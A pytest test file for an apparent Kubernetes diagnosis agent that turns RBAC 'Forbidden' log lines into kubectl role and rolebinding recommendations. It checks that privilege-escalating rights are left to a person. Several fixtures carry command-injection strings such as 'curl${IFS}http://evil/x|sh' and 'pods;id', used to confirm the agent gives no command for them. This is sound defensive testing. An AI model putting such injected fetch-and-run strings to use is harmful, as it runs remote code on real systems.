"""What a workload's own ServiceAccount may not do."""

import pytest

from agent.diagnosis.finding import Sure
from agent.diagnosis.ranking import Verdict
from tests.diagnosis.objects import (
    crashing,
    deployed,
)
from tests.diagnosis.world import World

ALERT = {
    "labels": {
        "alertname": "KubePodCrashLooping",
        "namespace": "bank",
        "pod": "desk-a-x1",
        "container": "desk",
    }
}
REFUSED = (
    'Error from server (Forbidden): pods is forbidden: User "system:serviceaccount:bank:desk" cannot list '
    'resource "pods" in API group "" in the namespace "bank"'
)


def world(line: str = REFUSED) -> World:
    """A Deployment whose pod, of ServiceAccount desk, ends with a line."""
    put = World().add(*deployed(crashing("desk"), name="desk", namespace="bank", serviceAccountName="desk"))
    return put.log("bank", "desk-a-x1", "desk", f"{line}\n", previous=True)


def refusal(
    verb: str, resource: str, *, user: str = "bank:desk", group: str = "", space: str = "bank"
) -> str:
    where = f'in the namespace "{space}"' if space else "at the cluster scope"
    return (
        f'Error from server (Forbidden): {resource} is forbidden: User "system:serviceaccount:{user}" cannot '
        f'{verb} resource "{resource}" in API group "{group}" {where}'
    )


def binding(role: str, *, account: str = "desk", namespace: str = "bank") -> dict:
    return {
        "kind": "RoleBinding",
        "metadata": {"name": "desk", "namespace": "bank"},
        "roleRef": {"kind": "Role", "name": role},
        "subjects": [{"kind": "ServiceAccount", "name": account, "namespace": namespace}],
    }


def role(name: str, *verbs: str) -> dict:
    rules = [{"apiGroups": [""], "resources": ["pods"], "verbs": list(verbs)}]
    return {"kind": "Role", "metadata": {"name": name, "namespace": "bank"}, "rules": rules}


def verdict(put: World) -> Verdict:
    return put.investigate(ALERT)[0]


def test_without_a_binding_the_verb_the_resource_and_the_account_are_named() -> None:
    found = verdict(world())
    assert found.root and found.root.id == "rbac-forbidden@bank/Deployment/desk"
    assert "ServiceAccount desk may not list pods in namespace bank: no role is bound to it" in found.sentence
    first = found.root.recommendations[0]
    assert str(first.command) == (
        "kubectl -n bank create role desk-pods --verb=list --resource=pods"
        " && kubectl -n bank create rolebinding desk-pods --role=desk-pods --serviceaccount=bank:desk"
    )
    assert str(first.verify) == "kubectl -n bank auth can-i list pods --as=system:serviceaccount:bank:desk"


def test_a_role_that_lacks_the_verb_is_named() -> None:
    found = verdict(world().add(binding("reader"), role("reader", "get")))
    assert found.root and found.root.cause.id == "rbac-forbidden"
    assert "Role reader does not allow it" in found.sentence


def test_a_binding_to_a_role_that_does_not_exist_is_the_cause() -> None:
    found = verdict(world().add(binding("reader")))
    assert found.root and found.root.cause.id == "rbac-role-missing"
    assert "grants Role reader, which does not exist" in found.sentence


def test_a_binding_for_the_account_of_another_namespace_is_shown() -> None:
    found = verdict(world().add(binding("reader", namespace="shop"), role("reader", "list")))
    assert found.root and found.root.cause.id == "rbac-forbidden"
    assert any(
        "is for ServiceAccount shop/desk, not for bank/desk" in claim.text for claim in found.root.claims
    )


@pytest.mark.parametrize(
    "user",
    ["bank:teller", "shop:desk", "kube-system:desk", "bank:desk;curl${IFS}http://evil/x|sh;#", "bank:desk "],
)
def test_a_line_about_another_account_is_a_lead_and_grants_nothing(user: str) -> None:
    found = verdict(world(refusal("list", "pods", user=user)))
    assert found.outcome == "inconclusive" and found.root and found.root.sure is Sure.POSSIBLE
    assert not any("create" in str(r.command) or "auth" in str(r.verify) for r in found.root.recommendations)


@pytest.mark.parametrize(
    ("verb", "resource", "group", "space"),
    [
        ("*", "pods", "", "bank"),
        ("list", "*", "", "bank"),
        ("list", "pods", "*", "bank"),
        ("get", "secrets", "", "bank"),
        ("list", "secrets", "", ""),
        ("create", "pods", "", "bank"),
        ("create", "pods/exec", "", "bank"),
        ("get", "pods/log", "", "bank"),
        ("get", "nodes/proxy", "", ""),
        ("create", "serviceaccounts/token", "", "bank"),
        ("impersonate", "serviceaccounts", "", "bank"),
        ("escalate", "clusterroles", "rbac.authorization.k8s.io", ""),
        ("bind", "roles", "rbac.authorization.k8s.io", "bank"),
        ("create", "rolebindings", "rbac.authorization.k8s.io", "bank"),
        ("list", "roles", "rbac.authorization.k8s.io", "bank"),
        ("patch", "deployments", "apps", "bank"),
        ("update", "leases", "coordination.k8s.io", "kube-system"),
        ("list", "widgets", "example.com", "bank"),
        ("list", "pods;id", "", "bank"),
    ],
)
@pytest.mark.parametrize("bound", [False, True], ids=["unbound", "bound"])
def test_a_right_off_the_list_is_named_and_left_to_a_person(
    verb: str, resource: str, group: str, space: str, bound: bool
) -> None:
    put = world(refusal(verb, resource, group=group, space=space))
    if bound:
        put.add(binding("reader"), role("reader", "get"))
    found = verdict(put)
    assert found.root and found.root.cause.id == "rbac-forbidden"
    first = found.root.recommendations[0]
    assert str(first.command).split()[3] == "describe" and first.risk == "none" and first.verify is None
    assert "No command grants this" in first.told


@pytest.mark.parametrize(
    ("verb", "resource", "group", "space", "named"),
    [
        ("watch", "deployments", "apps", "bank", "deployments.apps"),
        ("get", "configmaps", "", "shop", "configmaps"),
        ("create", "leases", "coordination.k8s.io", "bank", "leases.coordination.k8s.io"),
    ],
)
def test_reading_anywhere_and_leases_at_home_may_be_granted(
    verb: str, resource: str, group: str, space: str, named: str
) -> None:
    found = verdict(world(refusal(verb, resource, group=group, space=space)))
    assert found.root
    assert str(found.root.recommendations[0].command) == (
        f"kubectl -n {space} create role desk-{named} --verb={verb} --resource={named} && kubectl -n {space} "
        f"create rolebinding desk-{named} --role=desk-{named} --serviceaccount=bank:desk"
    )


def test_a_right_at_the_cluster_scope_is_granted_and_checked_there() -> None:
    found = verdict(world(refusal("list", "nodes", space="")))
    assert found.root
    first = found.root.recommendations[0]
    assert str(first.command) == (
        "kubectl create clusterrole desk-nodes --verb=list --resource=nodes && kubectl create clusterrolebinding "
        "desk-nodes --clusterrole=desk-nodes --serviceaccount=bank:desk"
    )
    assert str(first.verify).endswith("--as=system:serviceaccount:bank:desk --all-namespaces")


def test_a_cluster_role_is_not_widened_for_the_others_it_is_bound_to() -> None:
    shared = binding("view")
    shared["roleRef"]["kind"] = "ClusterRole"
    found = verdict(world(refusal("list", "deployments", group="apps")).add(shared))
    assert found.root and found.root.cause.id == "rbac-role-missing"  # none of that name is there
    assert "create clusterrole view --verb=list --resource=deployments.apps" in str(
        found.root.recommendations[0].command
    )
    rules = {"kind": "ClusterRole", "metadata": {"name": "view"}, "rules": []}
    found = verdict(world(refusal("list", "deployments", group="apps")).add(shared, rules))
    assert found.root
    assert "create role desk-deployments.apps --verb=list --resource=deployments.apps" in str(
        found.root.recommendations[0].command
    )


def test_a_missing_role_with_a_hostile_name_gets_no_command_and_says_so() -> None:
    found = verdict(world().add(binding("reader;curl${IFS}evil|sh;#")))
    assert found.root and found.root.cause.id == "rbac-role-missing"
    first = found.root.recommendations[0]
    assert str(first.command) == "" and "No command is given: the role in the evidence" in first.told
